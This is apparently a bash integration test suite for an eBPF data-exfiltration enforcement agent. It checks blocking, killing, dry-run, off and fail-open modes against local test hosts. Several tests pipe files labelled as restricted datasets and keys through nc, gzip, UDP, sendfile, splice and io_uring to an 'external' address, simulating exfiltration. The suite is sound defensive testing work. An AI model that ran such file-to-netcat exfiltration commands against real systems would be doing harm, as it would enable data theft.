#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# test_enforce.sh - in-kernel enforcement of allowed_egress: block, kill, dry-run, off, fail-open; bytes counted at the test hosts.
set -u
. "$(dirname "$0")/../lib/lib.sh"
need_root enforce
mount_kernel_fs

# Test hosts of this suite only: "external" (never allowed) and "ok" (allowed to faces).
EXT=dt-eext-$$
OKNS=dt-eok-$$
VX=dex$$
VO=deo$$
T=$(mktemp -d /var/tmp/dt-enf.XXXXXX)
PIDS_TO_KILL=""
SEND="$PY $TOP/tests/integration/enforce_send.py"
cleanup() {
	for p in $PIDS_TO_KILL; do kill -KILL "$p" 2>/dev/null; done
	[ -n "${AGENT_PID:-}" ] && kill -KILL "$AGENT_PID" 2>/dev/null
	ip netns pids "$EXT" 2>/dev/null | xargs -r kill 2>/dev/null
	ip netns pids "$OKNS" 2>/dev/null | xargs -r kill 2>/dev/null
	ip link del "$VX" 2>/dev/null
	ip link del "$VO" 2>/dev/null
	ip netns del "$EXT" 2>/dev/null
	ip netns del "$OKNS" 2>/dev/null
	lib_cleanup
	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
}
trap cleanup EXIT

setup_host "$EXT" "$VX" 10.197.1.1 10.197.1.2 fd00:197:1::1 fd00:197:1::2 || exit 1
setup_host "$OKNS" "$VO" 10.197.2.1 10.197.2.2 fd00:197:2::1 fd00:197:2::2 || exit 1

chmod 755 "$T"
mkdir -p "$T/ds" "$T/keys" "$T/notes"
head -c 100000 /dev/urandom >"$T/ds/a.bin"
head -c 3000 /dev/urandom >"$T/keys/k.bin"
head -c 3000 /dev/urandom >"$T/notes/n.bin"
head -c 5000 /dev/urandom >"$T/plain.bin"
chmod -R a+rX "$T"
write_inventory() { # faces-action
	cat >"$T/inv.json.tmp" <<EOF2
{"datasets": [
  {"id": "faces", "classification": "restricted", "paths": ["$T/ds"],
   "allowed_egress": ["10.197.2.0/24", "fd00:197:2::/64"], "enforce": "$1"},
  {"id": "keys", "classification": "restricted", "paths": ["$T/keys"], "enforce": "kill"},
  {"id": "notes", "classification": "confidential", "paths": ["$T/notes"]}
]}
EOF2
	mv "$T/inv.json.tmp" "$T/inv.json"
}
write_inventory block

FI=$T/findings.jsonl
# The last value of a field of the exfiltration finding of one pid.
finding() { # pid field
	$EVQ "$FI" last "$2" --where finding_info.types.0=exfiltration --where evidences.0.process.pid="$1"
}
# Waits (bounded) until the exfiltration finding of @pid has disposition @want.
wait_disposition() { # pid want
	local i
	for i in $(seq 100); do
		[ "$(finding "$1" disposition 2>/dev/null)" = "$2" ] && return 0
		sleep 0.1
	done
	return 1
}
# What a sender said, "MSG.PID", by the name of the file it created (enforce_send.py).
said() { # prefix
	local f
	for f in "$1".*; do
		[ -e "$f" ] && echo "${f#"$1".}"
	done
}
wait_said() { # prefix
	local i
	for i in $(seq 100); do
		[ -n "$(said "$1")" ] && return 0
		sleep 0.1
	done
	return 1
}
size() { stat -c %s "$1" 2>/dev/null || echo missing; }

agent_start "$T" "$T/inv.json" --flush-ms 200 --trace "$T/trace" --status-file "$T/status" || exit 1

test_01_attached_to_cgroup2_root() {
	local out
	out=$(bpftool cgroup show "$(awk '$9 == "cgroup2" {print $5; exit}' /proc/self/mountinfo)" 2>&1)
	ASSERT_HAS "$out" dt_enf_connect4 "connect4 on the cgroup2 root"
	ASSERT_HAS "$out" dt_enf_sendmsg6 "sendmsg6 on the cgroup2 root"
	ASSERT_HAS "$out" dt_enf_skb "cgroup_skb egress on the cgroup2 root"
}

test_02_block_tcp_pipe() {
	listen "$EXT" tcp 10.197.1.2 9201 "$T/r1" || return 1
	# nc stalls on a connection whose packets are dropped: checked, then killed.
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 3 -N 10.197.1.2 9201 &
	local nc=$!
	PIDS_TO_KILL="$PIDS_TO_KILL $nc"
	wait_disposition $nc Blocked
	ASSERT_EQ "$(finding $nc disposition)" Blocked "disposition"
	ASSERT_EQ "$(finding $nc action_id)" 2 "action: denied"
	ASSERT_EQ "$(finding $nc resources.0.uid)" faces "dataset"
	ASSERT_GE "$(finding $nc unmapped.enforcement.attempts)" 1 "attempts"
	ASSERT_GE "$(finding $nc unmapped.enforcement.bytes_refused)" 1 "bytes dropped at cgroup_skb"
	ASSERT_EQ "$(size "$T/r1")" 0 "bytes at the external host"
	kill -KILL $nc 2>/dev/null
}

test_03_block_connect_after_read() {
	$SEND connect_after_read 10.197.1.2 9202 "$T/ds/a.bin" "$T/s2" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$!
	wait_said "$T/s2"
	ASSERT_EQ "$(said "$T/s2")" "EPERM.$pid" "connect refused"
	wait_disposition $pid Blocked
	ASSERT_EQ "$(finding $pid unmapped.enforcement.attempts)" 1 "one connect refused"
	ASSERT_EQ "$(finding $pid unmapped.enforcement.bytes_refused)" 0 "nothing was sent"
	ASSERT_EQ "$(finding $pid unmapped.bytes)" 0 "bytes sent"
	kill -KILL $pid 2>/dev/null
}

test_04_block_ipv6() {
	$SEND connect_after_read fd00:197:1::2 9203 "$T/ds/a.bin" "$T/s3" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$!
	wait_said "$T/s3"
	ASSERT_EQ "$(said "$T/s3")" "EPERM.$pid" "IPv6 connect refused"
	wait_disposition $pid Blocked
	ASSERT_EQ "$(finding $pid evidences.0.dst_endpoint.ip)" fd00:197:1::2 "dst"
	kill -KILL $pid 2>/dev/null
}

test_05_block_udp() {
	listen "$EXT" udp 10.197.1.2 9204 "$T/r4" || return 1
	$SEND udp 10.197.1.2 9204 "$T/ds/a.bin" "$T/s4" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$!
	wait_said "$T/s4"
	ASSERT_EQ "$(said "$T/s4")" "EPERM.$pid" "unconnected sendto refused"
	wait_disposition $pid Blocked
	ASSERT_EQ "$(finding $pid evidences.0.connection_info.protocol_name)" udp "proto"
	ASSERT_EQ "$(finding $pid unmapped.enforcement.bytes_refused)" 1000 "datagram bytes refused"
	# nc -u connects its socket before it reads: its datagrams are dropped at cgroup_skb.
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -u -w 1 -q 0 10.197.1.2 9204 &
	local nc=$!
	wait $nc
	wait_disposition $nc Blocked
	ASSERT_GE "$(finding $nc unmapped.enforcement.bytes_refused)" 1 "connected UDP: bytes dropped"
	ASSERT_EQ "$(size "$T/r4")" 0 "bytes at the external host"
	kill -KILL $pid 2>/dev/null
}

# A connection opened before the read: stopped at cgroup_skb, no payload byte leaves.
preexisting() { # mode file port tag [host]
	local host=${5:-10.197.1.2}
	listen "$EXT" tcp "$host" "$3" "$T/r$3" || return 1
	$SEND "$1" "$host" "$3" "$2" "$T/s$3" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$! sender
	wait_said "$T/s$3"
	sender=$(said "$T/s$3")
	sender=${sender#sent.}
	wait_disposition "$sender" Blocked
	ASSERT_EQ "$(finding "$sender" disposition)" Blocked "$4: disposition"
	ASSERT_GE "$(finding "$sender" unmapped.enforcement.bytes_refused)" 1 "$4: bytes refused"
	ASSERT_EQ "$(size "$T/r$3")" 5 "$4: only the untainted preface reached the external host"
	kill -KILL "$sender" $pid 2>/dev/null
}

test_06_block_preexisting_connection() {
	preexisting preconnect "$T/ds/a.bin" 9205 preconnect
}

test_06a_block_preexisting_connection_ipv6() {
	preexisting preconnect "$T/ds/a.bin" 9223 preconnect_v6 fd00:197:1::2
}

test_07_block_sendfile() {
	preexisting sendfile "$T/ds/a.bin" 9206 sendfile
}

test_08_block_splice() {
	preexisting splice "$T/ds/a.bin" 9207 splice
}

test_09_block_socket_passed_over_scm_rights() {
	preexisting scm "$T/ds/a.bin" 9208 scm_rights
}

test_10a_block_io_uring_send_on_preexisting_connection() {
	listen "$EXT" tcp 10.197.1.2 9222 "$T/r9222" || return 1
	"$TOP/$BUILD/tests/progs/uring_send" 10.197.1.2 9222 "$T/ds/a.bin" "$T/s9222" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$!
	wait_said "$T/s9222"
	ASSERT_EQ "$(said "$T/s9222")" "sent.$pid" "io_uring send completed"
	wait_disposition $pid Blocked
	ASSERT_GE "$(finding $pid unmapped.enforcement.bytes_refused)" 1 "bytes refused"
	ASSERT_EQ "$(size "$T/r9222")" 5 "only the untainted preface reached the external host"
	kill -KILL $pid 2>/dev/null
}

test_10_block_pipe_chain_gzip() {
	listen "$EXT" tcp 10.197.1.2 9209 "$T/r9" || return 1
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/gzip -c | /usr/bin/nc -N 10.197.1.2 9209 &
	local nc=$!
	PIDS_TO_KILL="$PIDS_TO_KILL $nc"
	wait_disposition $nc Blocked
	ASSERT_EQ "$(finding $nc disposition)" Blocked "nc after gzip is blocked"
	ASSERT_EQ "$(finding $nc unmapped.via.hop)" pipe "tainted through the pipe"
	ASSERT_EQ "$(size "$T/r9")" 0 "bytes at the external host"
	kill -KILL $nc 2>/dev/null
}

test_11_allowed_destination_untouched() {
	listen "$OKNS" tcp 10.197.2.2 9210 "$T/r10" || return 1
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 10.197.2.2 9210 &
	local nc=$! i
	wait $nc
	ASSERT_EQ "$?" 0 "nc to the allowed host"
	for i in $(seq 100); do [ "$(size "$T/r10")" = 100000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r10")" 100000 "bytes at the allowed host"
	listen "$OKNS" tcp fd00:197:2::2 9211 "$T/r11" || return 1
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N fd00:197:2::2 9211 &
	nc=$!
	wait $nc
	for i in $(seq 100); do [ "$(size "$T/r11")" = 100000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r11")" 100000 "bytes at the allowed host over IPv6"
	ASSERT_EQ "$($EVQ "$FI" count --where evidences.0.process.pid=$nc)" 0 "no finding"
}

test_12_untainted_sender_untouched() {
	listen "$EXT" tcp 10.197.1.2 9212 "$T/r12" || return 1
	/usr/bin/nc -w 10 -N 10.197.1.2 9212 <"$T/plain.bin" &
	local nc=$! i
	wait $nc
	ASSERT_EQ "$?" 0 "untainted nc"
	for i in $(seq 100); do [ "$(size "$T/r12")" = 5000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r12")" 5000 "bytes at the external host"
}

test_13_monitor_dataset_passes_strictest_wins() {
	# notes alone is monitored: it goes, and is reported.
	listen "$EXT" tcp 10.197.1.2 9213 "$T/r13" || return 1
	/usr/bin/cat "$T/notes/n.bin" | /usr/bin/nc -w 10 -N 10.197.1.2 9213 &
	local nc=$! i
	wait $nc
	for i in $(seq 100); do [ "$(size "$T/r13")" = 3000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r13")" 3000 "monitored dataset reached the external host"
	# notes and faces together: the strictest (block) decides, and both findings say so.
	$SEND connect_after_read 10.197.1.2 9214 "$T/notes/n.bin,$T/ds/a.bin" "$T/s14" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$!
	wait_said "$T/s14"
	ASSERT_EQ "$(said "$T/s14")" "EPERM.$pid" "notes+faces refused"
	wait_disposition $pid Blocked
	for i in $(seq 100); do
		[ "$($EVQ "$FI" count --where evidences.0.process.pid=$pid --where disposition=Blocked)" = 2 ] && break
		sleep 0.1
	done
	ASSERT_EQ "$($EVQ "$FI" values resources.0.uid --where evidences.0.process.pid=$pid --where disposition=Blocked | tr '\n' ' ')" \
		"faces notes " "the monitored dataset's finding says it was blocked too"
	kill -KILL $pid 2>/dev/null
}

test_14_kill_at_send() {
	listen "$EXT" tcp 10.197.1.2 9215 "$T/r15" || return 1
	/usr/bin/cat "$T/keys/k.bin" | /usr/bin/nc -w 10 -N 10.197.1.2 9215 &
	local nc=$!
	wait $nc
	ASSERT_EQ "$?" 137 "nc was killed"
	wait_disposition $nc Killed
	ASSERT_EQ "$(finding $nc disposition_id)" 99 "disposition other"
	ASSERT_EQ "$(finding $nc unmapped.enforcement.disposition)" killed "unmapped disposition"
	ASSERT_EQ "$(size "$T/r15")" 0 "bytes at the external host"
}

test_15_kill_at_connect() {
	$SEND connect_after_read 10.197.1.2 9216 "$T/keys/k.bin" "$T/s16" &
	local pid=$!
	wait $pid
	ASSERT_EQ "$?" 137 "killed at connect"
	ASSERT_EQ "$(said "$T/s16")" "" "connect never returned"
	wait_disposition $pid Killed
}

test_16_reload_applies_to_running_processes() {
	local i
	# A sender holding faces, blocked; faces becomes monitor: the same process now passes.
	listen "$EXT" tcp 10.197.1.2 9217 "$T/r17" || return 1
	$SEND connect_after_read 10.197.1.2 9217 "$T/ds/a.bin" "$T/s17" &
	PIDS_TO_KILL="$PIDS_TO_KILL $!"
	local pid=$!
	wait_said "$T/s17"
	ASSERT_EQ "$(said "$T/s17")" "EPERM.$pid" "blocked before the reload"
	kill -KILL $pid
	write_inventory monitor
	kill -HUP "$AGENT_PID"
	for i in $(seq 100); do
		grep -q "reloaded" "$T/agent.err" && break
		sleep 0.1
	done
	listen "$EXT" tcp 10.197.1.2 9218 "$T/r18" || return 1
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 10.197.1.2 9218 &
	local nc=$!
	wait $nc
	for i in $(seq 100); do [ "$(size "$T/r18")" = 100000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r18")" 100000 "monitor after the reload lets it go"
	write_inventory block
	kill -HUP "$AGENT_PID"
	for i in $(seq 100); do
		[ "$(grep -c reloaded "$T/agent.err")" -ge 2 ] && break
		sleep 0.1
	done
}

test_17_status_shows_enforcement() {
	local out i
	for i in $(seq 50); do
		out=$("$DATATRAIL" status --status-file "$T/status" 2>&1)
		[[ "$out" == *'"datasets_block":1'* ]] && break
		sleep 0.1
	done
	ASSERT_HAS "$out" '"enforcement":{"mode":"on","attached":true,"cgroup":"/sys/fs/cgroup/unified","datasets_block":1,"datasets_kill":1' "enforcement state"
	ASSERT_HAS "$out" '"refused_block":' "refusals counted"
}

# A blocked connection orphaned by its killed sender: the kernel refuses its retransmits after
# the sender's findings closed. None of them opens the finding again (one Create, one Close);
# the agent counts them in the status file.
late_after_close() {
	$PY -c "import json,sys; print(json.load(open(sys.argv[1]))['counters']['late_after_close'])" \
		"$T/status" 2>/dev/null || echo 0
}
test_17b_orphaned_socket_stays_closed() {
	local pid uid i late0 late
	listen "$EXT" tcp 10.197.1.2 9225 "$T/r9225" || return 1
	late0=$(late_after_close)
	$SEND preconnect_keep 10.197.1.2 9225 "$T/ds/a.bin" "$T/s9225" &
	pid=$!
	PIDS_TO_KILL="$PIDS_TO_KILL $pid"
	wait_said "$T/s9225"
	ASSERT_EQ "$(said "$T/s9225")" "sent.$pid" "the sender stalled on its refused bytes"
	wait_disposition $pid Blocked
	uid=$(finding $pid finding_info.uid)
	kill -KILL $pid
	wait $pid 2>/dev/null
	for i in $(seq 100); do
		[ "$($EVQ "$FI" count --where finding_info.uid="$uid" --where activity_id=3)" -ge 1 ] && break
		sleep 0.1
	done
	ASSERT_NEQ "$(ss -Htn state all dst 10.197.1.2 dport = :9225)" "" \
		"the orphaned connection is still there, retransmitting"
	# Retransmits back off from 200 ms: several within 8 s, each refused at cgroup_skb.
	for i in $(seq 80); do
		late=$(late_after_close)
		[ "$late" -ge $((late0 + 3)) ] && break
		sleep 0.1
	done
	ASSERT_GE "$late" $((late0 + 1)) "late refusals counted in the status file"
	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.uid="$uid" --where activity_id=1)" 1 \
		"created once"
	ASSERT_EQ "$($EVQ "$FI" count --where finding_info.uid="$uid" --where activity_id=3)" 1 \
		"closed once, and it stays closed"
	ASSERT_EQ "$(size "$T/r9225")" 5 "nothing but the preface reached the external host"
	ss -K dst 10.197.1.2 dport = :9225 >/dev/null 2>&1
}

test_18_stop_and_replay() {
	local pid sender i
	# A stalled connection whose refused bytes sit in its send queue when the agent stops:
	# the agent resets it before detaching, so no retransmit delivers them afterwards.
	listen "$EXT" tcp 10.197.1.2 9224 "$T/r9224" || return 1
	$SEND preconnect_keep 10.197.1.2 9224 "$T/ds/a.bin" "$T/s9224" &
	pid=$!
	PIDS_TO_KILL="$PIDS_TO_KILL $pid"
	wait_said "$T/s9224"
	sender=$(said "$T/s9224")
	wait_disposition "${sender#sent.}" Blocked
	agent_stop
	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
	ASSERT_HAS "$(cat "$T/agent.err")" "blocked connections reset before detaching" "reset at stop"
	for i in $(seq 100); do
		[ -z "$(ss -Htn state all dst 10.197.1.2 dport = :9224)" ] && break
		sleep 0.1
	done
	ASSERT_EQ "$(ss -Htn state all dst 10.197.1.2 dport = :9224)" "" "the connection is gone"
	ASSERT_EQ "$(size "$T/r9224")" 5 "nothing but the preface ever reached the external host"
	kill -KILL $pid 2>/dev/null
	"$DATATRAIL" replay "$T/trace" >"$T/replayed.jsonl" 2>"$T/replay.err"
	ASSERT_EQ "$?" 0 "replay exit status"
	$EVQ "$FI" values finding_info.uid --where disposition=Blocked >"$T/live.uids"
	$EVQ "$T/replayed.jsonl" values finding_info.uid --where disposition=Blocked >"$T/replay.uids"
	ASSERT_SAME_LINES "$T/live.uids" "$T/replay.uids" "blocked findings replayed"
	$EVQ "$FI" values finding_info.uid --where disposition=Killed >"$T/live.k"
	$EVQ "$T/replayed.jsonl" values finding_info.uid --where disposition=Killed >"$T/replay.k"
	ASSERT_SAME_LINES "$T/live.k" "$T/replay.k" "killed findings replayed"
}

# The program ids of dt_enf_* programs on the cgroup2 root, one per line: other agents on the
# machine may hold their own, so a test compares ids, not the presence of a name.
enf_ids() {
	bpftool cgroup show "$(awk '$9 == "cgroup2" {print $5; exit}' /proc/self/mountinfo)" 2>&1 |
		awk '/dt_enf_/ {print $1}' | sort -u
}

test_19_fail_open_when_the_agent_dies() {
	local before mine left
	before=$(enf_ids)
	agent_start "$T" "$T/inv.json" --flush-ms 200 || return 1
	mine=$(comm -13 <(echo "$before") <(enf_ids))
	ASSERT_NEQ "$mine" "" "the agent attached its programs"
	kill -KILL "$AGENT_PID"
	wait "$AGENT_PID" 2>/dev/null
	left=$(comm -12 <(echo "$mine") <(enf_ids))
	ASSERT_EQ "$left" "" "programs still attached after the agent died"
}

test_20_dry_run_blocks_nothing_and_reports() {
	: >"$FI"
	agent_start "$T" "$T/inv.json" --flush-ms 200 --enforce dry-run || return 1
	listen "$EXT" tcp 10.197.1.2 9219 "$T/r19" || return 1
	/usr/bin/cat "$T/ds/a.bin" | /usr/bin/nc -w 10 -N 10.197.1.2 9219 &
	local nc=$! i
	wait $nc
	for i in $(seq 100); do [ "$(size "$T/r19")" = 100000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r19")" 100000 "dry-run: everything arrived"
	wait_disposition $nc "Would Block"
	ASSERT_EQ "$(finding $nc action_id)" 1 "action: allowed"
	ASSERT_EQ "$(finding $nc unmapped.enforcement.disposition)" would_block "unmapped"
	# kill under dry-run kills nothing
	listen "$EXT" tcp 10.197.1.2 9220 "$T/r20" || return 1
	/usr/bin/cat "$T/keys/k.bin" | /usr/bin/nc -w 10 -N 10.197.1.2 9220 &
	nc=$!
	wait $nc
	ASSERT_EQ "$?" 0 "dry-run: nc lives"
	wait_disposition $nc "Would Kill"
	agent_stop
}

test_21_off_loads_nothing() {
	local out
	out=$(enf_ids)
	agent_start "$T" "$T/inv.json" --flush-ms 200 --enforce off || return 1
	ASSERT_EQ "$(comm -13 <(echo "$out") <(enf_ids))" "" "--enforce off attached programs"
	listen "$EXT" tcp 10.197.1.2 9221 "$T/r21" || return 1
	/usr/bin/cat "$T/keys/k.bin" | /usr/bin/nc -w 10 -N 10.197.1.2 9221 &
	local nc=$! i
	wait $nc
	ASSERT_EQ "$?" 0 "off: nc lives"
	for i in $(seq 100); do [ "$(size "$T/r21")" = 3000 ] && break; sleep 0.1; done
	ASSERT_EQ "$(size "$T/r21")" 3000 "off: everything arrived"
	agent_stop
}

test_22_inventory_rejects_bad_enforce() {
	local out
	cat >"$T/bad.json" <<EOF2
{"datasets": [{"id": "x", "classification": "restricted", "paths": ["$T/ds"], "enforce": "drop"}]}
EOF2
	out=$("$DATATRAIL" inventory check "$T/bad.json" 2>&1)
	ASSERT_NEQ "$?" 0 "exit status"
	ASSERT_HAS "$out" "dataset 'x': field 'enforce': unknown action 'drop'" "message"
}


# Every line the agent wrote in this suite is valid OCSF 1.8.0.
test_ocsf_lines_valid() {
	ASSERT_OCSF_DIR "$T" "$T"
}

run_tests enforce
